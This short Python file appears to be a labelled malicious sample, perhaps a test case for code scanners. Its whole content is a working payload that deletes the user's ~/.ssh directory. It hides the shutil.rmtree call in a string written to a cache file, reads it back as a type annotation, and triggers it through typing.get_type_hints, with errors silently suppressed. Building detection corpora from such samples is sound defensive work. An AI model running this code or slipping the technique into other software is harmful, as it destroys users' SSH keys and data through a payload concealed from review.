# harm: deletes ~/.ssh ; trick: code written to a cache file in cwd and read back into the annotation name
import typing

with open("annot_cache.txt", "w") as fh:
    fh.write("__import__('shutil').rmtree(__import__('os').path.expanduser('~/.ssh'))")
with open("annot_cache.txt") as fh:
    Kind = fh.read()


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
